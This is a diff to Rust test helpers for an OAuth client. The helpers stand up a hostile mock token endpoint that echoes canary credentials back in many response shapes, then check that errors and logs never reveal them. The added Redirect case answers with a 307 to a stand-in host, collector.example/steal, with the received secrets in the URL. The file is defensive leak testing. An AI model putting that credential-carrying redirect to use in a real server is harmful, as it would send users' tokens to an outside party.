@@ -16,14 +16,14 @@ use wiremock::{Mock, MockServer, Request, ResponseTemplate};
 
 use crate::support::*;
 
-const ACCESS: &str = "CANARY-access-7f3a";
-const REFRESH: &str = "CANARY-refresh+/=9b2c";
-const CODE: &str = "CANARY-code+/=41d0";
-const SECRET: &str = "CANARY-secret-e5&x=1";
+pub(crate) const ACCESS: &str = "CANARY-access-7f3a";
+pub(crate) const REFRESH: &str = "CANARY-refresh+/=9b2c";
+pub(crate) const CODE: &str = "CANARY-code+/=41d0";
+pub(crate) const SECRET: &str = "CANARY-secret-e5&x=1";
 
 /// The shapes a hostile server echoes what it received in.
 #[derive(Clone, Copy, Debug)]
-enum Shape {
+pub(crate) enum Shape {
     OAuthError,
     ErrorCodeItself,
     NestedJson,
@@ -33,9 +33,11 @@ enum Shape {
     Text,
     Html,
     ErrorOn200,
+    /// A redirect to another origin carrying what was received.
+    Redirect,
 }
 
-const SHAPES: [Shape; 9] = [
+pub(crate) const SHAPES: [Shape; 10] = [
     Shape::OAuthError,
     Shape::ErrorCodeItself,
     Shape::NestedJson,
@@ -45,10 +47,11 @@ const SHAPES: [Shape; 9] = [
     Shape::Text,
     Shape::Html,
     Shape::ErrorOn200,
+    Shape::Redirect,
 ];
 
 /// Everything a request carried that is a credential: form values and the Basic header.
-fn received_secrets(request: &Request) -> Vec<String> {
+pub(crate) fn received_secrets(request: &Request) -> Vec<String> {
     let mut secrets: Vec<String> = form(request)
         .into_iter()
         .filter(|(name, _)| {
@@ -100,6 +103,12 @@ fn echo(shape: Shape, status: u16, request: &Request) -> ResponseTemplate {
             .set_body_string(format!(
                 "<html><body><h1>Error</h1><p>{all}</p><input type=\"hidden\" value=\"{raw}\"></body></html>"
             )),
+        Shape::Redirect => ResponseTemplate::new(307)
+            .insert_header(
+                "location",
+                format!("https://collector.example/steal?{raw}&all={}", url::form_urlencoded::byte_serialize(all.as_bytes()).collect::<String>()),
+            )
+            .set_body_string(format!("moved, you sent {all}")),
         Shape::ErrorOn200 => ResponseTemplate::new(200).set_body_json(json!({
             "error": "invalid_request",
             "error_description": format!("you sent {all}"),
@@ -110,7 +119,7 @@ fn echo(shape: Shape, status: u16, request: &Request) -> ResponseTemplate {
 
 /// A buffer that a `tracing` subscriber writes into.
 #[derive(Clone, Default)]
-struct Captured(Arc<Mutex<Vec<u8>>>);
+pub(crate) struct Captured(Arc<Mutex<Vec<u8>>>);
 
 impl io::Write for Captured {
     fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
@@ -123,12 +132,12 @@ impl io::Write for Captured {
 }
 
 impl Captured {
-    fn text(&self) -> String {
+    pub(crate) fn text(&self) -> String {
         String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
     }
 }
 
-fn subscriber(captured: &Captured) -> impl tracing::Subscriber + Send + Sync + use<> {
+pub(crate) fn subscriber(captured: &Captured) -> impl tracing::Subscriber + Send + Sync + use<> {
     let writer = captured.clone();
     tracing_subscriber::fmt()
         .with_max_level(tracing::Level::TRACE)
@@ -138,7 +147,7 @@ fn subscriber(captured: &Captured) -> impl tracing::Subscriber + Send + Sync + u
 }
 
 /// Every credential the server saw, with the known canaries.
-fn canaries(server_saw: &Mutex<Vec<String>>) -> Vec<String> {
+pub(crate) fn canaries(server_saw: &Mutex<Vec<String>>) -> Vec<String> {
     let mut all: Vec<String> = [ACCESS, REFRESH, CODE, SECRET]
         .iter()
         .map(|s| (*s).to_owned())
@@ -154,7 +163,7 @@ fn canaries(server_saw: &Mutex<Vec<String>>) -> Vec<String> {
     all
 }
 
-fn assert_clean(err: &Error, logs: &str, secrets: &[String], case: &str) {
+pub(crate) fn assert_clean(err: &Error, logs: &str, secrets: &[String], case: &str) {
     let shown = [
         err.to_string(),
         format!("{err:?}"),
@@ -171,7 +180,7 @@ fn assert_clean(err: &Error, logs: &str, secrets: &[String], case: &str) {
     }
 }
 
-async fn hostile_token_endpoint(
+pub(crate) async fn hostile_token_endpoint(
     server: &MockServer,
     shape: Shape,
     status: u16,
@@ -189,7 +198,7 @@ async fn hostile_token_endpoint(
     saw
 }
 
-fn initial_token() -> TokenResponse {
+pub(crate) fn initial_token() -> TokenResponse {
     TokenResponse::from_json(
         json!({
             "access_token": ACCESS, "token_type": "bearer", "expires_in": 0,
